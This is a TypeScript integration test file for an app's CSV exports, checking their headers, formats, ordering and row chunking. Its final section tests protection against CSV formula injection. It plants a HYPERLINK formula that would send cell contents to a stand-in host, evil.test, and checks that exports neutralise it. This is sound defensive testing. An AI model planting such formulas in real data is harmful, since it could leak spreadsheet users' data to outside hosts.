import { INVOICE_STATUS_LABELS, STAFF_ROLE_LABELS, STAFF_STATUS_LABELS, type InvoiceItem, type StaffItem } from '@clubspace/contract';
import { sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { useApiSession } from './support/api-session.ts';

const { t, ids, get } = useApiSession();

/** A small CSV reader (quoted fields, doubled quotes); the first row is the header. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (!quoted && (c === ',' || c === '\n')) {
      rows[rows.length - 1].push(field);
      field = '';
      if (c === '\n') rows.push([]);
    } else if (quoted || c !== '\r') field += c;
  }
  if (field || rows[rows.length - 1].length) rows[rows.length - 1].push(field);
  return rows.filter((r) => r.length > 1 || r[0]);
}

async function csv(url: string) {
  const res = await get(url);
  expect(res.statusCode, url).toBe(200);
  expect(res.headers['content-type']).toContain('text/csv');
  const [header, ...rows] = parseCsv(res.body);
  return { header, rows, records: rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i] ?? '']))), res };
}

const DAY = /^\d{2}-\d{2}-\d{4}$/;
const MONEY = /^-?\d+\.\d{2}$/;
const dmy = (iso: string) => `${iso.slice(8, 10)}-${iso.slice(5, 7)}-${iso.slice(0, 4)}`;

describe('CSV exports have the table’s columns', () => {
  it('invoices: the table’s headers, Draft for open, dd-MM-yyyy dates, money as 2-decimal numbers, rows in the list’s order', async () => {
    const { header, records } = await csv('/api/dashboard-invoices/?format=csv');
    expect(header).toEqual(['Invoice', 'Status', 'Amount', 'Team', 'Date', 'Due Date', 'Lines', 'Xero']);
    const json = (await get('/api/dashboard-invoices/?page_size=1000')).json();
    const items = json.invoices as InvoiceItem[];
    expect(records).toHaveLength(json.num_results);
    expect(records.map((r) => r.Invoice)).toEqual(items.map((i) => i.name));
    const labels = Object.values(INVOICE_STATUS_LABELS);
    for (const [i, r] of records.entries()) {
      expect(labels).toContain(r.Status);
      expect(r.Amount).toMatch(MONEY);
      expect(Number(r.Amount)).toBeCloseTo(items[i].gross_price, 2);
      expect(r.Date).toMatch(DAY);
      expect(r.Date).toBe(dmy(items[i].date));
      if (items[i].date_due) expect(r['Due Date']).toBe(dmy(items[i].date_due!));
    }
    // The vocabulary the screens use: an open invoice reads Draft, never the code.
    const open = items.findIndex((i) => i.status === 'open');
    if (open >= 0) expect(records[open].Status).toBe('Draft');
    expect(records.some((r) => /^(open|pending_payment|paid|void)$/.test(r.Status))).toBe(false);
  });

  it('keeps the list’s filters and order', async () => {
    const { records } = await csv('/api/dashboard-invoices/?status=paid&order=gross_price&format=csv');
    const json = (await get('/api/dashboard-invoices/?status=paid&order=gross_price&page_size=1000')).json();
    expect(records.map((r) => r.Invoice)).toEqual(json.invoices.map((i: InvoiceItem) => i.name));
    expect(records.every((r) => r.Status === 'Paid')).toBe(true);
  });

  it('staff: roles and statuses as labels', async () => {
    const { header, records } = await csv('/api/dashboard-staff/?format=csv');
    expect(header).toEqual(['Name', 'Location', 'Email address', 'Phone number', 'Job Title', 'Role', 'Status']);
    const items = (await get('/api/dashboard-staff/?page_size=1000')).json().staff as StaffItem[];
    expect(records.map((r) => r['Email address'])).toEqual(items.map((s) => s.user.email));
    for (const [i, r] of records.entries()) {
      expect(r.Role).toBe(STAFF_ROLE_LABELS[items[i].role as keyof typeof STAFF_ROLE_LABELS]);
      expect(r.Status).toBe(STAFF_STATUS_LABELS[items[i].status as keyof typeof STAFF_STATUS_LABELS]);
    }
  });

  it('memberships: money, days and Yes/No', async () => {
    const { header, records } = await csv('/api/dashboard-memberships/?status=all&format=csv');
    expect(header).toEqual(['Name', 'Member', 'Team', 'Resource', 'Price', 'Bookings', 'Start', 'End', 'Recurrent', 'Status']);
    expect(records.length).toBeGreaterThan(0);
    for (const r of records) {
      expect(r.Price).toMatch(MONEY);
      expect(r.Start).toMatch(DAY);
      if (r.End) expect(r.End).toMatch(DAY);
      expect(['Yes', 'No']).toContain(r.Recurrent);
      expect(r.Status).not.toMatch(/_|^[a-z]/);
    }
  });

  it('every list: readable headers, no technical names, no ISO timestamps, one row per result', async () => {
    const lists = [
      '/api/teams/',
      '/api/member-list/',
      '/api/guests/',
      '/api/dashboard-memberships/',
      '/api/dashboard-invoices/',
      '/api/dashboard-staff/',
      '/api/dashboard-offices/',
      '/api/dashboard-resources/',
      '/api/dashboard-work-areas/',
      '/api/dashboard-orders/',
      '/api/dashboard-products/',
      '/api/product-categories/',
      '/api/bars/',
      '/api/dashboard-notification-campaigns/',
      '/api/dashboard-offers/',
      '/api/dashboard-offer-users/',
    ];
    for (const path of lists) {
      const { header, rows } = await csv(`${path}?format=csv`);
      const total = (await get(`${path}?page_size=1`)).json().num_results;
      expect(rows, path).toHaveLength(total);
      for (const h of header) expect(h, `${path} header ${h}`).not.toMatch(/_|\.\w/);
      for (const row of rows) for (const cell of row) expect(cell, `${path}: ${cell}`).not.toMatch(/^\d{4}-\d{2}-\d{2}(T|$)/);
    }
  });

  it('members, teams and guests: an export longer than one keyset chunk (1,000 rows) has every row exactly once, in the list’s order', async () => {
    // 1,100 more of each for demo, with names that tie in pairs across the chunk boundary (the keys continue after the
    // last row's name and id, not an OFFSET).
    await t.db.execute(sql`insert into users (email, first_name, last_name)
      select 'csv-bulk-' || g || '@example.test', 'Bulk', 'Row ' || lpad((g / 2)::text, 4, '0') from generate_series(1, 1100) g`);
    await t.db.execute(sql`insert into members (client_id, slug, user_id)
      select ${ids.demo}, 'csv-bulk-' || u.id, u.id from users u where u.email like 'csv-bulk-%'`);
    await t.db.execute(sql`insert into teams (client_id, slug, name)
      select ${ids.demo}, 'csv-bulk-' || g, 'Bulk Team ' || lpad((g / 2)::text, 4, '0') from generate_series(1, 1100) g`);
    await t.db.execute(sql`insert into guests (client_id, slug, name, email)
      select ${ids.demo}, 'csv-bulk-' || g, 'Bulk Guest ' || lpad((g / 2)::text, 4, '0'), 'csv-bulk-guest-' || g || '@example.test' from generate_series(1, 1100) g`);
    const cases: [string, string, string, (item: Record<string, unknown>) => string][] = [
      ['/api/member-list/', 'members', 'Email', (m) => (m.user as { email: string }).email],
      ['/api/teams/', 'teams', 'Team', (x) => x.name as string],
      ['/api/guests/', 'guests', 'Email', (g) => g.email as string],
    ];
    for (const [path, list, column, key] of cases) {
      const { records } = await csv(`${path}?format=csv`);
      const total = (await get(`${path}?page_size=1`)).json().num_results as number;
      expect(total, path).toBeGreaterThan(1100);
      expect(records, path).toHaveLength(total);
      // The JSON pages in the same order, read page by page (page_size caps at 1000).
      const pages: string[] = [];
      for (let page = 1; pages.length < total; page++) pages.push(...(await get(`${path}?page_size=500&page_number=${page}`)).json()[list].map(key));
      const cells = records.map((r) => r[column]);
      if (list !== 'teams') expect(new Set(cells).size, path).toBe(total);
      expect(cells, path).toEqual(pages);
    }
  });

  it('keeps the header row when nothing matches', async () => {
    const { header, rows } = await csv('/api/teams/?name=no-such-team-anywhere&format=csv');
    expect(header).toEqual(['Team', 'Status', 'Members']);
    expect(rows).toHaveLength(0);
  });

  it('raw=1 keeps the full technical export', async () => {
    const { header, records, res } = await csv('/api/dashboard-invoices/?format=csv&raw=1');
    expect(header).toEqual(expect.arrayContaining(['slug', 'status', 'gross_price', 'team.name', 'date', 'invoice_type', 'vat', 'net_price']));
    expect(header.length).toBeGreaterThan(15);
    expect(records.every((r) => /^(open|pending_payment|paid|void)$/.test(r.status))).toBe(true);
    expect(res.headers['content-disposition']).toContain('invoices-raw-');
    expect((await get('/api/dashboard-invoices/?format=csv&raw=maybe')).statusCode).toBe(400);
  });
});

describe('CSV formula injection (issue 30 finding 2)', () => {
  // Each character a spreadsheet starts a formula with; the marker finds the row again.
  const LEADS = ['=', '+', '-', '@', '\t', '\r'];
  const payload = (i: number) => `${LEADS[i]}HYPERLINK("http://evil.test/?q="&A1,"XSEC${i}")`;
  const marked = (cells: string[], i: number) => cells.find((c) => c.includes(`"XSEC${i}")`));

  async function poison(table: 'teams' | 'guests' | 'products', column: 'name') {
    const rows = (await t.db.execute(sql`select id from ${sql.identifier(table)} where client_id = ${ids.demo} order by id limit ${LEADS.length}`))
      .rows as { id: number }[];
    expect(rows).toHaveLength(LEADS.length);
    for (const [i, r] of rows.entries())
      await t.db.execute(sql`update ${sql.identifier(table)} set ${sql.identifier(column)} = ${payload(i)} where id = ${r.id}`);
  }

  it('teams, guests, products and members: every leading character is written with a leading quote, in the shaped and the raw export', async () => {
    await poison('teams', 'name');
    await poison('guests', 'name');
    await poison('products', 'name');
    const memberUsers = (
      await t.db.execute(
        sql`select u.id from users u join members m on m.user_id = u.id where m.client_id = ${ids.demo} order by m.id limit ${LEADS.length}`,
      )
    ).rows as { id: number }[];
    for (const [i, u] of memberUsers.entries()) await t.db.execute(sql`update users set first_name = ${payload(i)} where id = ${u.id}`);

    for (const path of ['/api/teams/', '/api/guests/', '/api/dashboard-products/', '/api/member-list/']) {
      for (const raw of ['', '&raw=1']) {
        const { rows } = await csv(`${path}?format=csv&page_size=1000${raw}`);
        const cells = rows.flat();
        for (let i = 0; i < LEADS.length; i++) {
          const cell = marked(cells, i);
          expect(cell, `${path}${raw} ${JSON.stringify(LEADS[i])}`).toBeDefined();
          // The member's name is "first last" trimmed: a leading tab or CR is gone, so no formula either way.
          if (path === '/api/member-list/' && !raw && (LEADS[i] === '\t' || LEADS[i] === '\r')) expect(cell![0]).not.toMatch(/[=+\-@\t\r]/);
          else expect(cell!.startsWith(`'${payload(i)}`), `${path}${raw} ${JSON.stringify(cell)}`).toBe(true);
        }
        // No cell of the export starts a formula.
        for (const c of cells) expect(c, `${path}${raw}: ${c}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  it('money the writer formats keeps its minus sign: a negative amount stays a number', async () => {
    const [product] = (await t.db.execute(sql`select id from products where client_id = ${ids.demo} order by id limit 1`)).rows as { id: number }[];
    await t.db.execute(sql`update products set price_pence = -1250, name = 'Refund test product' where id = ${product.id}`);
    const { records } = await csv('/api/dashboard-products/?format=csv&page_size=1000');
    expect(records.find((r) => r.Name === 'Refund test product')?.Price).toBe('-12.50');
  });
});
